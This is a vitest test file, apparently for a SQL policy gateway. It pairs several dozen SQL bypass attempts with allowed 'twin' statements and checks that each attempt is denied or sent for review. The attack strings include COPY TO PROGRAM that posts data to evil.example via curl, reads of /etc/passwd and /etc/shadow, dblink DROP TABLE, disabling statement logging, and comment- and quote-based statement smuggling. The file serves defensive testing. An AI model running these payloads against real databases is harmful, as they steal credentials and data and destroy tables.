import { describe, expect, it } from "vitest";
import {
  inspectSql,
  resolvePreparedStatements,
  type DecisionAction,
  type PolicyDocument,
} from "../src/index";
import { demoPolicy } from "./fixtures/demo-policy";
import { decide, useParser } from "./helpers";

useParser();

/**
 * The demo policy plus one that keeps engineers out of the `secret` schema. The second
 * policy only denies: on other statements it abstains and the demo policy decides.
 */
const noSecrets: PolicyDocument = {
  name: "no-secrets",
  subjects: { groups: ["engineers"] },
  resources: { tags: { env: "demo" } },
  rules: [
    {
      id: "secret-schema",
      match: { sql: { tables: ["secret.*"] } },
      action: "deny",
      message: "the secret schema is off limits",
    },
  ],
};
const policies = [demoPolicy, noSecrets];

interface BypassCase {
  /** The rule the attack must not get around. */
  name: string;
  attack: string;
  /** What the attack must get: never allow. */
  expected: Exclude<DecisionAction, "allow">;
  /** A substring of one reason. */
  reason?: string;
  /** The same intent done within the rules: allowed. */
  twin: string;
}

const cases: BypassCase[] = [
  // comments, case, whitespace, quoting
  {
    name: "a DROP after a block comment is still a drop",
    attack: "/* harmless */ DROP TABLE customers",
    expected: "review",
    reason: "approval",
    twin: "/* harmless */ SELECT * FROM customers",
  },
  {
    name: "a DELETE after a line comment and a newline is still seen",
    attack: "SELECT 1 -- only a select\n; DELETE FROM customers",
    expected: "deny",
    reason: "without a WHERE",
    twin: "SELECT 1 -- only a select\n; DELETE FROM customers WHERE id = 1",
  },
  {
    name: "a line comment ends at the newline",
    attack: "-- DELETE FROM x\nDELETE FROM customers",
    expected: "deny",
    twin: "-- DELETE FROM x\nSELECT 1",
  },
  {
    name: "a nested block comment does not end at its first */",
    attack: "/* /* nested */ still a comment */ DROP TABLE customers",
    expected: "review",
    twin: "/* /* nested */ DROP TABLE customers */ SELECT 1",
  },
  {
    name: "mixed case and odd whitespace do not hide a DELETE",
    attack: "dElEtE\n\t FROM\r\n   customers",
    expected: "deny",
    twin: "dElEtE\n\t FROM\r\n   customers WhErE id = 1",
  },
  {
    name: "no whitespace after a semicolon does not hide a DELETE",
    attack: "SELECT 1;DELETE FROM customers",
    expected: "deny",
    twin: "SELECT 1;DELETE FROM customers WHERE id=1",
  },
  {
    name: "a quoted identifier does not hide a DELETE",
    attack: 'DELETE FROM "customers"',
    expected: "deny",
    twin: 'DELETE FROM "customers" WHERE "id" = 1',
  },
  {
    name: "a semicolon inside a string does not start a statement",
    attack: "SELECT 'x'; DROP TABLE customers",
    expected: "review",
    twin: "SELECT ';DROP TABLE customers'",
  },
  {
    name: "dollar quoting keeps a DELETE inside a string",
    attack: "SELECT $a$ x $a$; DELETE FROM customers",
    expected: "deny",
    twin: "SELECT $$; DELETE FROM customers; $$",
  },
  {
    name: "a nested dollar tag does not close the outer quote",
    attack: "SELECT $q$ $$ $q$; DELETE FROM customers",
    expected: "deny",
    twin: "SELECT $q$ $$; DELETE FROM customers; $$ $q$",
  },
  {
    name: "an escaped quote in an E'' string keeps the DELETE inside",
    attack: "SELECT E'\\\\'; DELETE FROM customers; --'",
    expected: "deny",
    twin: "SELECT E'\\'; DELETE FROM customers; --'",
  },
  {
    name: "a Unicode-escaped identifier still names the secret schema",
    attack: 'SELECT * FROM U&"s\\0065cret".keys',
    expected: "deny",
    reason: "off limits",
    twin: 'SELECT * FROM U&"\\0061pp".keys',
  },
  {
    name: "a quoted schema still names the secret schema",
    attack: 'SELECT * FROM "secret"."keys"',
    expected: "deny",
    twin: 'SELECT * FROM "app"."keys"',
  },
  // CTEs, subqueries, wrappers
  {
    name: "a CTE-wrapped DELETE without WHERE is denied",
    attack: "WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d",
    expected: "deny",
    reason: "without a WHERE",
    twin: "WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM d",
  },
  {
    name: "a CTE-wrapped UPDATE without WHERE is denied",
    attack: "WITH u AS (UPDATE customers SET email = NULL RETURNING id) SELECT count(*) FROM u",
    expected: "deny",
    twin: "WITH u AS (UPDATE customers SET email = NULL WHERE id = 7 RETURNING id) SELECT count(*) FROM u",
  },
  {
    name: "a DELETE under a read-only CTE is denied",
    attack: "WITH x AS (SELECT 1) DELETE FROM customers",
    expected: "deny",
    twin: "WITH x AS (SELECT 1) DELETE FROM customers WHERE id IN (SELECT * FROM x)",
  },
  {
    name: "WHERE true is no WHERE",
    attack: "DELETE FROM customers WHERE true",
    expected: "deny",
    twin: "DELETE FROM customers WHERE active = true",
  },
  {
    name: "a secret table in a subquery is found",
    attack: "SELECT * FROM app.orders WHERE id IN (SELECT id FROM secret.keys)",
    expected: "deny",
    twin: "SELECT * FROM app.orders WHERE id IN (SELECT id FROM app.refunds)",
  },
  {
    name: "a secret table behind a CTE of the same name is found",
    attack: "WITH keys AS (SELECT * FROM secret.keys) SELECT * FROM keys",
    expected: "deny",
    twin: "WITH keys AS (SELECT * FROM app.keys) SELECT * FROM keys",
  },
  {
    name: "COPY (DELETE … RETURNING) is a delete",
    attack: "COPY (DELETE FROM customers RETURNING *) TO STDOUT",
    expected: "deny",
    twin: "COPY (SELECT * FROM customers) TO STDOUT",
  },
  // multi-statement and transactions
  {
    name: "SELECT 1; DROP TABLE is judged by the DROP",
    attack: "SELECT 1; DROP TABLE customers",
    expected: "review",
    reason: "statement 2 (drop)",
    twin: "SELECT 1; SELECT 2",
  },
  {
    name: "SELECT 1; DELETE is judged by the DELETE",
    attack: "SELECT 1; DELETE FROM customers",
    expected: "deny",
    twin: "SELECT 1; DELETE FROM customers WHERE id = 1",
  },
  {
    name: "BEGIN … COMMIT around a denied statement is denied",
    attack: "BEGIN; DELETE FROM customers; COMMIT",
    expected: "deny",
    twin: "BEGIN; DELETE FROM customers WHERE id = 1; COMMIT",
  },
  // opaque SQL
  {
    name: "a DO block is opaque and denied",
    attack: "DO $$ BEGIN DELETE FROM customers WHERE id = 1; END $$",
    expected: "deny",
    reason: "DO blocks are opaque",
    twin: "DELETE FROM customers WHERE id = 1",
  },
  {
    name: "a DO block with another tag and language is denied",
    attack: "DO LANGUAGE plpgsql $body$ BEGIN PERFORM 1; END $body$",
    expected: "deny",
    twin: "SELECT 1",
  },
  {
    name: "CREATE FUNCTION wrapping a DELETE needs approval (its body is opaque)",
    attack: "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM customers $$",
    expected: "review",
    twin: "DELETE FROM customers WHERE id = 1",
  },
  {
    name: "a SQL-standard function body with a DELETE without WHERE is denied",
    attack:
      "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM customers; END",
    expected: "deny",
    twin: "DELETE FROM customers WHERE id = 1",
  },
  {
    name: "CREATE RULE whose action deletes everything is denied",
    attack: "CREATE RULE r AS ON INSERT TO notes DO ALSO DELETE FROM customers",
    expected: "deny",
    twin: "INSERT INTO notes VALUES (1)",
  },
  {
    name: "a function that runs SQL text is denied",
    attack: "SELECT query_to_xml('delete from customers returning *', true, true, '')",
    expected: "deny",
    twin: "SELECT table_name FROM information_schema.tables",
  },
  // prepared statements and cursors
  {
    name: "PREPARE cannot smuggle a DELETE without WHERE",
    attack: "PREPARE p AS DELETE FROM customers",
    expected: "deny",
    twin: "PREPARE p (int) AS DELETE FROM customers WHERE id = $1",
  },
  {
    name: "PREPARE then EXECUTE in one string is judged by the prepared statement",
    attack: "PREPARE p AS DELETE FROM customers; EXECUTE p",
    expected: "deny",
    twin: "PREPARE p (int) AS DELETE FROM customers WHERE id = $1; EXECUTE p (1)",
  },
  {
    name: "EXECUTE of a statement the gateway did not track is opaque and denied",
    attack: "EXECUTE unknown_plan",
    expected: "deny",
    reason: "prepared statement",
    twin: "PREPARE known AS SELECT 1",
  },
  {
    name: "a cursor over a dangerous function is denied",
    attack: "DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')",
    expected: "deny",
    twin: "DECLARE c CURSOR FOR SELECT * FROM customers",
  },
  // side-effect functions
  {
    name: "pg_terminate_backend inside a SELECT is denied",
    attack: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
    expected: "deny",
    reason: "function",
    twin: "SELECT pid FROM pg_stat_activity",
  },
  {
    name: "pg_cancel_backend in a WHERE is denied",
    attack: "SELECT * FROM customers WHERE pg_cancel_backend(42)",
    expected: "deny",
    twin: "SELECT * FROM customers WHERE id = 42",
  },
  {
    name: "schema-qualified pg_read_file is denied",
    attack: "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    expected: "deny",
    twin: "SELECT pg_catalog.lower('X')",
  },
  {
    name: "a quoted function name is denied",
    attack: "SELECT \"pg_read_binary_file\"('/etc/shadow')",
    expected: "deny",
    twin: "SELECT \"lower\"('X')",
  },
  {
    name: "pg_ls_dir as a table function is denied",
    attack: "SELECT * FROM pg_ls_dir('/')",
    expected: "deny",
    twin: "SELECT * FROM generate_series(1, 3)",
  },
  {
    name: "lo_export in INSERT VALUES is denied",
    attack: "INSERT INTO notes VALUES (lo_export(1234, '/tmp/x'))",
    expected: "deny",
    twin: "INSERT INTO notes VALUES (lower('x'))",
  },
  {
    name: "lo_import is denied",
    attack: "SELECT lo_import('/etc/passwd')",
    expected: "deny",
    twin: "SELECT length('/etc/passwd')",
  },
  {
    name: "dblink_exec inside a CTE is denied",
    attack:
      "WITH r AS (SELECT dblink_exec('dbname=postgres', 'DROP TABLE customers')) SELECT * FROM r",
    expected: "deny",
    twin: "WITH r AS (SELECT count(*) FROM customers) SELECT * FROM r",
  },
  {
    name: "dblink installed in another schema is still denied by dblink*",
    attack: "SELECT * FROM ext.dblink('dbname=x', 'select 1') AS t(a int)",
    expected: "deny",
    twin: "SELECT * FROM ext.safe_fn()",
  },
  {
    name: "set_config, which can change search_path unseen, is denied",
    attack: "SELECT set_config('search_path', 'secret', false)",
    expected: "deny",
    twin: "SET search_path = app",
  },
  {
    name: "pg_reload_conf is denied",
    attack: "SELECT pg_reload_conf()",
    expected: "deny",
    twin: "SELECT current_setting('work_mem')",
  },
  {
    name: "pg_rotate_logfile is denied",
    attack: "SELECT pg_rotate_logfile()",
    expected: "deny",
    twin: "SELECT now()",
  },
  // COPY and EXPLAIN
  {
    name: "COPY TO PROGRAM is denied",
    attack: "COPY customers TO PROGRAM 'curl -d @- http://evil.example'",
    expected: "deny",
    reason: "shell command",
    twin: "COPY customers TO STDOUT",
  },
  {
    name: "COPY FROM PROGRAM is denied",
    attack: "COPY customers FROM PROGRAM 'cat /etc/passwd'",
    expected: "deny",
    twin: "COPY customers FROM STDIN",
  },
  {
    name: "COPY to a server file is denied",
    attack: "COPY customers TO '/tmp/dump.csv'",
    expected: "deny",
    reason: "server file",
    twin: "COPY customers TO STDOUT WITH (FORMAT csv)",
  },
  {
    name: "EXPLAIN ANALYZE DELETE runs the delete, so it is denied",
    attack: "EXPLAIN ANALYZE DELETE FROM customers",
    expected: "deny",
    twin: "EXPLAIN DELETE FROM customers",
  },
  {
    name: "EXPLAIN (ANALYZE, FORMAT JSON) DELETE is denied",
    attack: "EXPLAIN (ANALYZE, FORMAT JSON) DELETE FROM customers",
    expected: "deny",
    twin: "EXPLAIN (ANALYZE false, FORMAT JSON) DELETE FROM customers",
  },
  // search path
  {
    name: "SET search_path then an unqualified name reaches the secret schema",
    attack: "SET search_path = secret; SELECT * FROM keys",
    expected: "deny",
    reason: "off limits",
    twin: "SET search_path = app; SELECT * FROM keys",
  },
  // other disguises of writes and DDL
  {
    name: "SELECT INTO creates a table, which needs approval",
    attack: "SELECT * INTO loot FROM customers",
    expected: "review",
    twin: "SELECT * FROM customers",
  },
  {
    name: "TRUNCATE is not a DELETE with WHERE and is denied by default",
    attack: "TRUNCATE customers",
    expected: "deny",
    reason: "denied by default",
    twin: "DELETE FROM customers WHERE id = 1",
  },
  {
    name: "ALTER SYSTEM needs approval",
    attack: "ALTER SYSTEM SET log_statement = 'none'",
    expected: "review",
    twin: "SET statement_timeout = '5s'",
  },
  {
    name: "LOAD of a library is denied by default",
    attack: "LOAD 'evil'",
    expected: "deny",
    twin: "SHOW work_mem",
  },
  {
    name: "MERGE is not in any allow list and is denied",
    attack: "MERGE INTO customers c USING staging s ON c.id = s.id WHEN MATCHED THEN DELETE",
    expected: "deny",
    twin: "UPDATE customers SET email = s.email FROM staging s WHERE customers.id = s.id",
  },
];

describe("bypass corpus (demo policy + a secret-schema policy)", () => {
  describe.each(cases)("$name", ({ attack, expected, reason, twin }) => {
    it(`attack is ${expected}`, () => {
      const d = decide(attack, {}, policies);
      expect(d.action).toBe(expected);
      if (reason !== undefined) expect(d.reasons.join(" | ")).toContain(reason);
    });
    it("twin is allowed", () => {
      const d = decide(twin, {}, policies);
      expect(d.reasons).toEqual(expect.any(Array));
      expect(d.action, d.reasons.join(" | ")).toBe("allow");
    });
  });

  it("a search path given by the caller resolves an unqualified name into the secret schema", () => {
    expect(
      decide("SELECT * FROM keys", { searchPath: ["secret", "public"] }, policies).action,
    ).toBe("deny");
    expect(decide("SELECT * FROM keys", { searchPath: ["app"] }, policies).action).toBe("allow");
  });

  it("EXECUTE resolved by the caller to a DELETE without WHERE is denied; to a bounded one, allowed", () => {
    const bad = inspectSql("PREPARE p AS DELETE FROM customers").statements[0]!.prepared!
      .statement!;
    const good = inspectSql("PREPARE p AS DELETE FROM customers WHERE id = 1").statements[0]!
      .prepared!.statement!;
    const facts = (s: typeof bad) => resolvePreparedStatements(inspectSql("EXECUTE p"), () => s);
    expect(decide("EXECUTE p", { facts: facts(bad) }, policies).action).toBe("deny");
    expect(decide("EXECUTE p", { facts: facts(good) }, policies).action).toBe("allow");
  });

  it("a 1 MB statement is inspected in full: a DELETE at its end is found", () => {
    const ids = Array.from({ length: 160_000 }, (_, i) => i).join(",");
    const long = `SELECT * FROM customers WHERE id IN (${ids})`;
    expect(long.length).toBeGreaterThan(900_000);
    expect(decide(long, {}, policies).action).toBe("allow");
    expect(decide(`${long}; DELETE FROM customers`, {}, policies).action).toBe("deny");
  });

  it("a statement nested past the parser's depth limit is unparseable and denied with the parser's message", () => {
    const deep = `SELECT ${"(SELECT ".repeat(20_000)}1${")".repeat(20_000)}`;
    const d = decide(deep, {}, policies);
    expect(d.action).toBe("deny");
    expect(d.facts.statements[0]!.kind).toBe("unparseable");
    expect(d.reasons.join(" ")).toMatch(/could not be parsed.*(memory exhausted|too deeply)/);
    const shallow = `SELECT ${"(SELECT ".repeat(50)}1${")".repeat(50)}`;
    expect(decide(shallow, {}, policies).action).toBe("allow");
  });

  it("a statement nested just deep enough to overflow the stack is denied, not crashed", () => {
    const deep = `SELECT ${"(SELECT ".repeat(3_000)}1${")".repeat(3_000)}`;
    expect(decide(deep, {}, policies).action).toBe("deny");
    expect(decide("SELECT 1", {}, policies).action).toBe("allow");
  });

  it("with standard_conforming_strings off, a backslash makes the text ambiguous and it is denied", () => {
    const sql = "SELECT 'a\\'; DELETE FROM customers; --'";
    const d = decide(sql, { standardConformingStrings: false }, policies);
    expect(d.action).toBe("deny");
    expect(d.reasons.join(" ")).toContain("standard_conforming_strings");
    expect(decide("SELECT 'plain'", { standardConformingStrings: false }, policies).action).toBe(
      "allow",
    );
  });
});
